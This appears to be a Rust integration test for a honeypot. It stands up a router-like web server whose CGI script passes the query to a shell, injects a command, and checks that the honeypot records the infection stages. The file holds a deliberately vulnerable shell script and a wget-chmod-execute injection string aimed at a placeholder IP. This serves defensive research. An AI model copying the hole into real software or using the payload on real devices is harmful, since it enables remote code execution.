// SPDX-License-Identifier: Apache-2.0
//! Entry by exploitation: a web server with a deliberately careless script, and an intruder who puts a command into a query.
//! Nothing here does harm: what is fetched is the sinkhole's inert file. Needs busybox-static, and for the second architecture
//! `make personas`, qemu-user-static and Linux 6.7 or later.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod rig;

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use rig::{Honeypot, calls_of};
use serde_json::Value;

/// Gives what the query holds to a shell.
const CARELESS: &str = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\n\
    host=$(httpd -d \"${QUERY_STRING#host=}\")\nsh -c \"echo asked for $host\"\n";

/// The command that the intruder puts in.
const INJECTED: &str = "x;cd /tmp;wget http://203.0.113.9/m -O m;chmod 777 m;./m;echo $REMOTE_ADDR";

fn lay_out(root: &Path, busybox: Option<&Path>) {
    rig::lay_out(root);
    if let Some(busybox) = busybox {
        fs::copy(busybox, root.join("bin/busybox")).expect("`make personas` is needed");
    }
    fs::create_dir_all(root.join("www/cgi-bin")).unwrap();
    fs::write(root.join("www/index.html"), "a router\n").unwrap();
    let script = root.join("www/cgi-bin/ping");
    fs::write(&script, CARELESS).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
}

fn settings(root: &Path, recording: &str) -> String {
    format!(
        "pool = 1\nrecording = '{recording}'\nrootfs = '{}'\n[service]\ncommand = ['httpd', '-f', '-h', '/www']\n\
         listen = '127.0.0.1:0'\n[limits]\nidle_seconds = 1\n",
        root.display()
    )
}

fn fetch(address: SocketAddr, path: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    stream.write_all(format!("GET {path} HTTP/1.0\r\n\r\n").as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

fn intrude(root: &Path, recording: &str) -> Vec<Value> {
    let honeypot = Honeypot::start(&settings(root, recording));
    let address = honeypot.service.unwrap();
    assert!(fetch(address, "/").ends_with("a router\n"));
    let query = INJECTED.replace(' ', "%20");
    let answer = fetch(address, &format!("/cgi-bin/ping?host={query}"));
    // The script's environment has the address that the connection came from.
    assert!(answer.contains("asked for x\n") && answer.contains("127.0.0.1"), "{answer}");
    honeypot.settled(1)
}

fn is_told_as_the_stages_of_an_infection(events: &[Value], name: &str) {
    let start = events.iter().find(|event| event["event"] == "session-start").unwrap();
    assert_eq!(start["entry"], "httpd", "{name}");
    let asked: Vec<_> = events.iter().filter(|event| event["event"] == "asked").collect();
    let told = |service: &str, begin: &str| {
        let is = |event: &&&Value| {
            event["service"] == service && event["asked"].as_str().unwrap().starts_with(begin)
        };
        asked.iter().find(is).unwrap_or_else(|| panic!("{name}: no {begin} in {asked:?}"))["line"]
            .as_u64()
    };
    assert_eq!(told("httpd", "GET / HTTP/1.0\r\n"), Some(1), "{name}");
    assert_eq!(told("httpd", "GET /cgi-bin/ping?host=x;cd%20/tmp"), Some(2), "{name}");
    // What the intruder fetches from port 80 elsewhere is not answered by the service.
    told("http", "GET /m ");
    let typed: Vec<_> = events.iter().filter(|event| event["event"] == "input").collect();
    let wanted = format!("echo asked for {INJECTED}");
    let line = typed.iter().find(|event| event["input"] == wanted.as_str());
    let line = &line.unwrap_or_else(|| panic!("{name}: {typed:?}"))["line"];
    let of_line = events.iter().filter(|event| event["line"] == *line);
    let stages: BTreeSet<&str> = of_line.filter_map(|event| event["stage"].as_str()).collect();
    for stage in ["S1", "S2", "S4a", "S5"] {
        assert!(stages.contains(stage), "{name}: {stages:?}");
    }
    assert!(stages.contains("S6a") || stages.contains("S6b"), "{name}: {stages:?}");
    let run = calls_of(events, "execve", "./m");
    let lineage = run[0]["subject"]["lineage"].as_array().unwrap();
    assert_eq!(lineage.last().unwrap(), "/usr/sbin/httpd", "{name}: {lineage:?}");
    // What the service does by itself is no stage.
    let own = events.iter().filter(|event| event["subject"]["program"] == "/usr/sbin/httpd");
    assert!(own.clone().count() > 20, "{name}");
    assert!(
        own.into_iter().all(|event| event["stage"].is_null() || event["call"] == "execve"),
        "{name}"
    );
}

#[test]
fn what_cannot_be_served_is_said() {
    let empty = tempfile::tempdir().unwrap();
    let root = tempfile::tempdir().unwrap();
    lay_out(root.path(), None);
    let none = settings(root.path(), "auto").replace("'httpd'", "'nosuchd'");
    for (settings, word) in [
        (settings(empty.path(), "auto"), "neither bin/busybox nor bin/sh is a file"),
        (none, "there is no nosuchd in the persona"),
    ] {
        let said = rig::refusal(&settings);
        assert!(said.contains(word), "{said}");
    }
}

#[test]
fn a_command_put_into_a_request_is_recorded_with_its_stages_and_the_service_as_root() {
    let root = tempfile::tempdir().unwrap();
    lay_out(root.path(), None);
    for recording in ["auto", "ptrace"] {
        is_told_as_the_stages_of_an_infection(&intrude(root.path(), recording), recording);
    }
    let mips =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/personas/mipsel-router/busybox");
    let root = tempfile::tempdir().unwrap();
    lay_out(root.path(), Some(&mips));
    is_told_as_the_stages_of_an_infection(&intrude(root.path(), "auto"), "mips");
}
